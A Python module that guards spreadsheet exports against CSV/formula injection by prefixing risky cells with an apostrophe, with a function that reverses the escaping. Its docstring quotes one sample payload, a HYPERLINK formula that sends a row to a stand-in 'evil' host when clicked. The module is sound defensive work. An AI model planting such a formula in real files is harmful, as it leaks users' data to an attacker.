"""Cells a spreadsheet will not run as a formula (CSV/formula injection, OWASP).

A value typed by anyone — a name given on the hotline, an institution's name in an imported file, a
vocabulary label — may start with `=`, `+`, `-` or `@`: Excel and LibreOffice take such a cell of a CSV
file for a formula (`=HYPERLINK("http://evil/?"&A1,"x")` sends the row away when clicked, DDE runs a
program), and openpyxl writes a string starting with `=` as a live formula. Every cell of a CSV or XLSX
file Nicat writes goes through `safe_cell`: such a value gets a leading apostrophe, which spreadsheets
show as text. JSON exports keep the values as they are.

`restore_cell` undoes `safe_cell` exactly (the HTCDS CSV is read back by its import): a value that
already starts with apostrophes before a formula character gets one more, so that a value typed as
`'=x` comes back as `'=x`, and a value with a leading apostrophe before anything else is left alone.
"""

# = + - @, tab, CR, LF (OWASP), and the full-width forms some spreadsheet programs also accept.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _needs_quote(text):
    return text.lstrip("'")[:1] in FORMULA_START if text else False


def safe_cell(value):
    """`value` as the text of a CSV or XLSX cell: with a leading apostrophe when a spreadsheet would
    read it as a formula. Numbers and other non-text values are returned unchanged."""
    if not isinstance(value, str):
        return value
    return "'" + value if _needs_quote(value) else value


def restore_cell(text):
    """The value `safe_cell` was given, from the text it returned."""
    if isinstance(text, str) and text.startswith("'") and _needs_quote(text):
        return text[1:]
    return text
